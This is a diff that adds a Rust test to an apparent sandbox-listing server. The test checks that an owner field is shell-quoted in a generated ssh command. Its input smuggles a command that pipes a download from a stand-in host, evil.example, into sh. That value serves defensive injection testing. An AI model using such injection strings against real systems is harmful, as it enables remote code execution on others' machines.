@@ -357,3 +357,24 @@ async fn a_key_that_names_no_service_is_shown_as_unknown_not_dropped() {
     let (_, overview) = server.get("/").await;
     assert!(overview.contains("unknown services: legacy-app"));
 }
+
+#[tokio::test]
+async fn a_hand_written_owner_cannot_inject_into_the_ssh_command() {
+    let upstream = Upstream::new();
+    let owner = "x; curl evil.example|sh #";
+    let text = format!("owner: \"{owner}\"\nsshPublicKeys:\n  - {KEY}\n");
+    upstream.commit(
+        "Eve",
+        T0,
+        "sandbox by hand",
+        &[("sandboxes/eve.yaml", Some(&text))],
+    );
+    let server = Server::start(&upstream, true).await;
+    let api = server.json("/api/v1/sandboxes").await;
+    let sandbox = &api["sandboxes"][0];
+    assert_eq!(sandbox["owner"], owner);
+    assert_eq!(
+        sandbox["ssh"], "ssh 'x; curl evil.example|sh #'@eve.sb.example.com",
+        "the owner is one quoted shell word"
+    );
+}
